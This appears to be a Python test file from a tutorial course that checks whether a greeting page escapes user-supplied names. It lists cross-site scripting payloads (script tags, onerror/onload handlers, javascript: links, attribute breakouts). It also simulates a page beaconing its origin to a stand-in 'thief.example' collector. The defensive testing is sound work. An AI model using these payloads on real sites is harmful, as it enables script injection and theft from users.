"""Names that people have, and names that are markup, in a page of a real user."""

from __future__ import annotations

from tutorial_lib.course.checking import Checker, check
from tutorial_lib.theft import Browser, Collector
from tutorial_lib.theft.page import Page, Shown

HOME, THIEF = "https://notes.example", "https://thief.example"
NAMES = (
    "Noor",
    "小明",
    "Jean-Luc O'Brien",
    "A <3 B",
    "Tom & Jerry",
    '"Grace"',
    "1 > 0",
    "&amp;",
    "",
    " Noor ",
)
CALL = "run()"
# Where a script can hide, and how it gets out of where it was put.
SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f'<a href="java\tscript:{CALL}">Noor</a>',
)
WAYS_OUT = ("", '">', "'>", "</p>", "Noor ")
PAYLOADS = (
    *(way + script for way in WAYS_OUT for script in SCRIPTS),
    *(f'" onmouseover="{CALL}', f"' onmouseover='{CALL}"),
)
HARMLESS = ("<b>Noor</b>", "<h1>", '" class="admin', "' class='admin")
NO_TEXTS = (42, None, ["<b>"])


@check("greeting", home="my_server")
def a_strangers_text(checker: Checker) -> None:
    """Every name is shown as it is, in the text and in the tooltip, and none of them runs."""
    for payload in PAYLOADS:
        _runs_not(checker, payload)
    for name in NAMES:
        _shown(checker, name, "changed")
    for name in (*HARMLESS, *PAYLOADS):
        _shown(checker, name, "removed")
    for value in NO_TEXTS:
        came = checker.attempt(lambda value=value: checker.answer({"name": value}))  # type: ignore[misc]
        fact = came.error_name or type(came.value).__name__
        checker.expect(isinstance(came.value, str), "not-text", value=repr(value), fact=fact)


def _html(checker: Checker, name: str) -> str:
    claims = {"name": name, "user_id": "1"}
    html = checker.answer(claims)
    checker.expect(claims == {"name": name, "user_id": "1"}, "claims-changed")
    checker.expect(isinstance(html, str), "no-html", fact=type(html).__name__)
    return str(html)


def _shown(checker: Checker, name: str, otherwise: str) -> None:
    shown = Shown(_html(checker, name))
    is_text = shown.text.strip() == f"Hello, {name}!".strip()
    titles = [value for tag, field, value in shown.attributes if (tag, field) == ("p", "title")]
    as_it_is = titles == [name]
    extra = len(shown.tags) > 1 or len(shown.attributes) > 1
    checker.expect(shown.tags[:1] == ["p"] and titles, "no-paragraph")
    checker.expect(not extra, "markup", name=name)
    fact = shown.text.strip() if not is_text else titles[0]
    if name != name.strip():  # a blank at an end is to be seen in the message
        name, fact = repr(name), repr(fact)
    checker.expect(is_text and as_it_is, otherwise, name=name, fact=fact)


def _runs_not(checker: Checker, payload: str) -> None:
    """A user opens the page; the thief's server hears of it where the name was run."""
    thief = Collector()
    checker.show(thief)

    def run(page: Page) -> None:
        page.fetch(f"{THIEF}/collect", "POST", data={"from": page.origin})

    browser = Browser({THIEF: thief.wsgi}, {"run": run})
    browser.open(HOME).show(_html(checker, payload))
    checker.expect(not thief.journal.exchanges, "ran", name=payload)
